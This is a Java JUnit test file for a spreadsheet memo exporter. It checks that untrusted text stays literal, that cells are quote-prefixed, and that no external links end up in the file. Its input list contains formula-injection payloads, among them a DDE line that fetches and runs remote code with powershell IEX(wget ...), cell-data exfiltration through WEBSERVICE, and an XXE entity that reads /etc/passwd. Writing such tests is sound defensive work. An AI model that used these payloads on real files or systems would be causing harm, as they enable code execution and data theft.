package underwrite.model.memo;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TimeZone;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import javax.xml.parsers.SAXParserFactory;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.xml.sax.Attributes;
import org.xml.sax.helpers.DefaultHandler;
import underwrite.model.driver.Driver;
import underwrite.model.driver.Group;
import underwrite.model.file.problem.ThesisFileException;
import underwrite.model.series.Series;
import underwrite.model.thesis.AcceptedAdvice;
import underwrite.model.thesis.DiligenceItem;
import underwrite.model.thesis.Evidence;
import underwrite.model.thesis.Extras;
import underwrite.model.thesis.MemoTexts;
import underwrite.model.thesis.Milestone;
import underwrite.model.thesis.Rationale;
import underwrite.model.thesis.SimulationSettings;
import underwrite.model.thesis.Thesis;

@DisplayName("The words of strangers in a memo")
class StrangersWordsTest {
    private static final String HARMLESS = "Plain words";

    /** Characters that decide how a spreadsheet reads a cell, and what a file can hold. */
    static final List<String> INJECTIONS = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
            "=HYPERLINK(\"http://example.org?x=\"&A1,\"Click\")",
            "=WEBSERVICE(\"http://example.org/\"&A1)",
            "=IMPORTXML(\"http://example.org\",\"//a\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=IMAGE(\"http://example.org/x.png\")",
            "=RTD(\"prog\",,\"x\")",
            "=INDIRECT(\"Inputs!D5\")",
            "={1,2;3,4}",
            "+1+1",
            "+cmd|'/C calc'!A0",
            "-2+3",
            "-2+3+cmd|'/C calc'!A0",
            "@SUM(A1:A9)",
            "@x",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "\r\n=1+1",
            " =1+1",
            "|calc",
            "%0A=1+1",
            "'=1+1",
            "''",
            "\"=1+1\"",
            ";=1+1",
            ",=1+1",
            "\uFF1D1+1",
            "\uFF0B1",
            "\uFF0D1",
            "\uFF20SUM(A1)",
            "\u200B=1+1",
            "\uFEFF=1+1",
            "\u202E=1+1\u202C",
            "\u2066=1\u2069 \u200F x",
            "\u0000null",
            "bell\u0007 and escape\u001B[31m",
            "\u0001\u0002\u0008\u000B\u000C\u001F\u007F\u0085",
            "_x0041_ _x000D_ _x005F_x0041_",
            "\uFFFE\uFFFF",
            "pair \uD83D\uDE00",
            "<script>alert(1)</script> & <b>",
            "</t></si><c r=\"A1\"><f>1+1</f></c>",
            "]]><!--",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "&amp;&#61;1+1",
            "{0} {1} '{'",
            "&P of &N &\"Arial\"&D&F&[Path]",
            "a]b[c:d*e?f/g\\h",
            "History",
            "Inputs",
            "TRUE",
            "R1C1",
            "A1",
            "1e308",
            "#REF!",
            "https://example.org/?q=1",
            "\\\\server\\share\\x",
            "x".repeat(32_767),
            "=".repeat(32_768),
            "\uD83D\uDE00".repeat(20_000),
            "word ".repeat(8_000));

    /** The formulas of our own template. */
    private static final Set<String> OURS;

    private static final int HOW_MANY;

    static {
        List<String> ours = formulas(Memos.open(Memos.write(everywhere(HARMLESS))));
        OURS = Set.copyOf(ours);
        HOW_MANY = ours.size();
    }

    static Stream<Integer> injections() {
        return Stream.iterate(0, i -> i < INJECTIONS.size(), i -> i + 1);
    }

    @ParameterizedTest(name = "arrive as the words that they are, list entry {0}")
    @MethodSource("injections")
    void literal(int place) throws Exception {
        String text = INJECTIONS.get(place);
        byte[] memo = Memos.write(everywhere(text));
        try (XSSFWorkbook workbook = Memos.open(memo)) {
            List<String> now = formulas(workbook);
            assertThat(now.stream().filter(formula -> !OURS.contains(formula)).limit(5))
                    .isEmpty();
            assertThat(now).hasSize(HOW_MANY);
            assertThat(Memos.cells(workbook).stream().map(Memos::type)).doesNotContain(CellType.ERROR);
            assertThat(column(workbook, 0)).startsWith(unspaced(text));
            assertThat(count(workbook, "Evidence", arrived(text))).isGreaterThanOrEqualTo(3);
            assertThat(count(workbook, "Inputs", arrived(text))).isGreaterThanOrEqualTo(2);
            assertThat(onMemo(workbook, text)).isGreaterThanOrEqualTo(8);
            quoted(workbook, arrived(text));
        }
        for (Map.Entry<String, byte[]> part : parts(memo).entrySet()) {
            assertThat(suspicious(part.getValue())).as(part.getKey()).isEmpty();
        }
    }

    @Test
    @DisplayName("a figure with no driver arrives too, and one that no spreadsheet holds as text")
    void figures() throws Exception {
        Thesis thesis = Theses.golden("default")
                .withEvidence(List.of(
                        figure("plain", null, 12.5),
                        figure("vast", null, 1.7e308),
                        figure("vast share", Driver.LAB_TAX_RATE, -1.7e308)));
        try (XSSFWorkbook workbook = Memos.open(Memos.write(thesis))) {
            List<String> values = new ArrayList<>();
            for (int row = 4; row < 7; row++) {
                values.add(workbook.getSheet("Evidence").getRow(row).getCell(3).toString());
            }
            assertThat(values).containsExactly("12.5", "1.7E308", "-1.7E308");
        }
    }

    private static Evidence figure(String id, @Nullable Driver driver, double value) {
        return new Evidence(
                id,
                driver,
                null,
                "",
                value,
                null,
                null,
                "",
                "",
                "",
                null,
                null,
                Evidence.Stance.CONTEXT,
                "",
                false,
                Extras.NONE);
    }

    @ParameterizedTest(
            name = "are refused in one sentence, and nothing written, when they hold half a character, case {index}")
    @ValueSource(strings = {"\uD800 alone", "low \uDC00 alone", "reversed \uDC00\uD800"})
    void halfCharacters(String text) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        assertThatThrownBy(() -> MemoWriter.write(MemoRequest.of(everywhere(text)), out, MemoProgress.NONE))
                .isInstanceOf(ThesisFileException.class)
                .hasMessageContaining("half a character");
        assertThat(out.size()).isZero();
    }

    /** A thesis with one text in all fields. */
    private static Thesis everywhere(String text) {
        Thesis base = Theses.golden("default");
        Evidence evidence = new Evidence(
                text,
                Driver.MARKET_SIZE,
                Group.MARKET,
                text,
                5.0,
                null,
                null,
                text,
                "2024-03",
                text,
                Evidence.Kind.PRESS,
                Evidence.Confidence.LOW,
                Evidence.Stance.CONTEXT,
                text,
                false,
                Extras.NONE);
        Milestone milestone = new Milestone(
                text, Series.REVENUE, 1, Milestone.Comparison.AT_LEAST, 1.0, null, null, null, text, null, Extras.NONE);
        SimulationSettings one = new SimulationSettings(
                SimulationSettings.ALL_SCENARIOS, 1, 42, SimulationSettings.Sampling.SOBOL, List.of(), Extras.NONE);
        return base.withHead(text, text, text, LocalDate.of(2024, 3, 31))
                .withMemo(new MemoTexts(text, text, text, text, text, Extras.NONE))
                .withEvidence(List.of(evidence))
                .withMilestones(List.of(milestone))
                .withDiligence(List.of(new DiligenceItem(Driver.MARKET_SIZE, text, text, text, false, Extras.NONE)))
                .withAccepted(List.of(new AcceptedAdvice(text, text, Extras.NONE)))
                .withSimulation(one)
                .withScenarios(base.scenarios().stream()
                        .map(scenario -> scenario.withName(text)
                                .withRationale(
                                        Map.of(Driver.MARKET_SIZE, new Rationale(text, List.of(text), Extras.NONE))))
                        .toList());
    }

    /** What no cell can hold is cut, and says so. */
    private static String arrived(String text) {
        if (text.length() <= 32_700) {
            return text;
        }
        int end = Character.isHighSurrogate(text.charAt(32_699)) ? 32_699 : 32_700;
        return text.substring(0, end) + "… (cut here; the whole text is in the thesis file)";
    }

    private static long count(XSSFWorkbook workbook, String sheet, String text) {
        return texts(workbook)
                .filter(cell -> cell.getSheet().getSheetName().equals(sheet))
                .filter(cell -> cell.getStringCellValue().equals(text))
                .count();
    }

    /** How often a text stands on the memo, whose texts go on in the row below where a column ends. */
    private static long onMemo(XSSFWorkbook workbook, String text) {
        String wanted = unspaced(text);
        long found = 0;
        for (int column = 0; column < 8; column++) {
            String all = column(workbook, column);
            for (int at = all.indexOf(wanted); at >= 0; at = all.indexOf(wanted, at + wanted.length())) {
                found++;
            }
        }
        return found;
    }

    private static String column(XSSFWorkbook workbook, int column) {
        StringBuilder all = new StringBuilder();
        texts(workbook)
                .filter(cell -> cell.getSheet().getSheetName().equals("Memo") && cell.getColumnIndex() == column)
                .forEach(cell -> all.append(unspaced(cell.getStringCellValue())));
        return all.toString();
    }

    /** A text without what a line may end at. */
    private static String unspaced(String text) {
        return text.replaceAll("\\R| ", "");
    }

    private static Stream<XSSFCell> texts(XSSFWorkbook workbook) {
        return Memos.cells(workbook).stream().filter(cell -> cell.getCellType() == CellType.STRING);
    }

    /** What could become a formula when somebody edits its cell is marked as text. */
    private static void quoted(XSSFWorkbook workbook, String text) {
        assertThat(texts(workbook)
                        .filter(cell -> !cell.getStringCellValue().isEmpty())
                        .filter(cell ->
                                "=+-@\t\r\n|".indexOf(cell.getStringCellValue().charAt(0)) >= 0)
                        .filter(cell -> !cell.getCellStyle().getQuotePrefixed())
                        .map(Memos::where))
                .as(text)
                .isEmpty();
    }

    /** The formulas of each sheet; the name of the scenario's sheet apart they may depend on nothing that was written. */
    private static List<String> formulas(XSSFWorkbook workbook) {
        String model = workbook.getSheetName(3);
        String quoted = "'" + model.replace("'", "''") + "'!";
        return Memos.cells(workbook).stream()
                .filter(cell -> cell.getCellType() == CellType.FORMULA)
                .map(cell -> workbook.getSheetIndex(cell.getSheet()) + "!"
                        + cell.getCellFormula().replace(quoted, "model!"))
                .sorted()
                .toList();
    }

    /** Elements and attributes that lead out of the file; a document type is refused by the parser. */
    private static List<String> suspicious(byte[] xml) throws Exception {
        List<String> found = new ArrayList<>();
        SAXParserFactory factory = SAXParserFactory.newInstance();
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        factory.newSAXParser().parse(new ByteArrayInputStream(xml), new DefaultHandler() {
            @Override
            public void startElement(String uri, String local, String name, Attributes attributes) {
                if (name.matches("(.*:)?(oleLink|ddeLink|externalReference|webPr|dbPr|script)")
                        || "External".equals(attributes.getValue("TargetMode"))) {
                    found.add(name);
                }
            }
        });
        return found;
    }

    private static Map<String, byte[]> parts(byte[] memo) throws IOException {
        Map<String, byte[]> parts = new HashMap<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(memo))) {
            for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                parts.put(entry.getName(), zip.readAllBytes());
            }
        }
        return parts;
    }

    @Test
    @DisplayName(
            "are in a file that is the same bytes in every time zone and tells id, version and seed, and nothing of the machine")
    void properties() throws IOException {
        Thesis thesis = Theses.quick(Theses.golden("three-scenarios"));
        TimeZone before = TimeZone.getDefault();
        String user = System.getProperty("user.name");
        try {
            TimeZone.setDefault(TimeZone.getTimeZone("Pacific/Auckland"));
            System.setProperty("user.name", "somebody-at-this-machine");
            byte[] far = Memos.write(thesis);
            TimeZone.setDefault(TimeZone.getTimeZone("America/Los_Angeles"));
            assertThat(Memos.write(thesis)).isEqualTo(far);
            List<String> holding = new ArrayList<>();
            parts(far).forEach((name, part) -> {
                if (Stream.of("somebody-at-this-machine", System.getProperty("user.home") + "/", "Apache POI")
                        .anyMatch(new String(part, StandardCharsets.UTF_8)::contains)) {
                    holding.add(name);
                }
            });
            assertThat(holding).isEmpty();
            try (XSSFWorkbook workbook = Memos.open(far)) {
                var custom = workbook.getProperties().getCustomProperties();
                assertThat(custom.getProperty("thesisId").getLpwstr()).isEqualTo(thesis.id());
                assertThat(custom.getProperty("version").getLpwstr()).matches("\\d+\\.\\d+\\.\\d+.*");
                assertThat(custom.getProperty("seed").getLpwstr())
                        .isEqualTo(Long.toString(thesis.simulation().seed()));
            }
        } finally {
            TimeZone.setDefault(before);
            System.setProperty("user.name", user);
        }
    }
}
